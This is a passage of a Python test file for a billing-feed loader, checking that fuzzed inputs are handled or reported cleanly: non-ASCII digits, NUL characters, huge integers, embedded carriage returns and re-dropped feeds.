    header_id, outcome = run_feed(billing_home, control)
    assert outcome.success, outcome.failures
    found = rows(fuzz_world, txn_detail, "row_no", "external_txn_id", "status", "message",
                 where=txn_detail.c.header_id == header_id)
    assert found == [(1, "Q1", "INVL", "row 1: amount '٣' is not a decimal number — correct and resubmit"),
                     (2, "\\N", "COMP", None), (3, formula, "COMP", None), (4, sql, "COMP", None)]


@pytest.mark.parametrize("file, text, problem", [
    ("persons", "person_id,name,email\nP1,Ann\0Lee,\nP2,Bob,\n",
     "persons.csv, line 2: holds a NUL character, so it is not UTF-8 text; save the file as UTF-8"),
    ("bill_cycles", "bill_cycle_cd,close_day\nC1," + "1" * 5000 + "\n",
     "bill_cycles.csv, line 2, column close_day: a whole number of 5000 digits is out of range (at most 10 digits)"),
])
def test_reference_files_the_fuzzing_broke_are_one_problem_each(fuzz_world, tmp_path, file, text, problem):
    """PostgreSQL refused a NUL mid-load (a traceback), and a whole number of thousands of digits
    was refused with Python's advice to call sys.set_int_max_str_digits(); now each is one
    problem of the folder, naming file, line and column."""
    with pytest.raises(ReferenceDataError) as refused:
        load_reference(fuzz_world, write_reference(tmp_path / "bad", {file: text}))
    assert refused.value.problems == [problem]


def test_a_carriage_return_inside_a_cell_is_data(fuzz_world, billing_home, tmp_path):
    """A lone carriage return in a cell — quoted, or in a row of the wrong width kept as raw text
    — went unquoted into the COPY on PostgreSQL, which refused it and failed the run."""
    control = write_feed(tmp_path / "drop", "cr", ['Q1,2026-11-10,A1,CHQ,USD,5.00,1,"ON\rLINE"', '"=1+1\r"'])
    header_id, outcome = run_feed(billing_home, control)
    assert outcome.success, outcome.failures
    assert rows(fuzz_world, txn_detail, "row_no", "status", "channel", "raw_record", "message",
                where=txn_detail.c.header_id == header_id) == [
        (1, "COMP", "ON\rLINE", None, None),
        (2, "INVL", None, "=1+1\r", "row 2: row has 1 fields, the header has 8 — correct and resubmit")]


def test_a_feed_dropped_again_under_another_name_is_filed_beside_the_original(fuzz_world, billing_home, tmp_path):
    """The same bytes are the same feed whatever its control file is called. A copy under a new
    name was skipped by the sensor at every tick and left in the inbox for good."""
    control = write_feed(tmp_path / "drop", "day", ["G1,2026-11-10,A1,CHQ,USD,5.00,1,"])
    header_id, outcome = run_feed(billing_home, control)
    assert outcome.success, outcome.failures
    (billing_home.inbox / "day.csv").write_bytes(control.with_name("day.csv").read_bytes())
    (billing_home.inbox / "day-resent.ctl.json").write_bytes(control.read_bytes())
    assert not getattr(_sensor(DagsterInstance.ephemeral()), "run_requests", None)
    assert not list(billing_home.inbox.iterdir())
    redropped = billing_home.archive / header_id / "redropped"
    assert sorted(p.name for p in redropped.iterdir()) == ["day-resent.ctl.json", "day.csv"]
